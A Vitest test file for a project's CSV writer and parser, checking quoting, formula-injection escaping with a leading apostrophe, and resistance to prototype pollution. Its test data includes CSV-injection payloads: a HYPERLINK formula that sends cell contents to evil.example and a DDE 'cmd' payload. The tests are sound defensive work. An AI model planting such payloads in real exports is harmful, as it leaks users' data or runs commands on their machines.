/** The project's CSV: RFC 4180 quoting, and no cell a spreadsheet would run as a formula. */
import { describe, expect, it } from 'vitest';
import { parseCsv, parseCsvRows, toCsv } from '../../src/experiment/batch/csv.js';

describe('CSV cells', () => {
  const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1', '\r=1'];

  it('that begin like a formula are written with a leading apostrophe (OWASP), and read back as they were', () => {
    const text = toCsv(['case'], formulas.map((cell) => [cell]));
    const written = parseCsvRows(text.replace(/'/g, 'APOSTROPHE')).slice(1).map(([cell]) => cell!);
    for (const cell of written) expect(cell.startsWith('APOSTROPHE'), cell).toBe(true);
    expect(parseCsvRows(text).slice(1).map(([cell]) => cell)).toEqual(formulas);
  });

  it('keep numbers as numbers, negative money written as text included, and apostrophes of their own', () => {
    const plain = [-12.5, '-12.50', '1e-5', '+3', "'=already", "it's", 'plain'];
    const text = toCsv(['value'], plain.map((cell) => [cell]));
    expect(text).toBe("value\n-12.5\n-12.50\n1e-5\n+3\n''=already\nit's\nplain\n");
    expect(parseCsvRows(text).slice(1).map(([cell]) => cell)).toEqual(plain.map(String));
  });

  it('read back into records keyed by the header, a column a tampered file names __proto__ only a key', () => {
    expect(parseCsv('a,b\n1,"x,""y"""\r\n2\n')).toEqual([{ a: '1', b: 'x,"y"' }, { a: '2', b: '' }]);
    const [record] = parseCsv('__proto__,a\npolluted,1\n');
    expect(Object.getPrototypeOf(record)).toBe(Object.prototype);
    expect(Object.keys(record!)).toEqual(['__proto__', 'a']);
  });
});
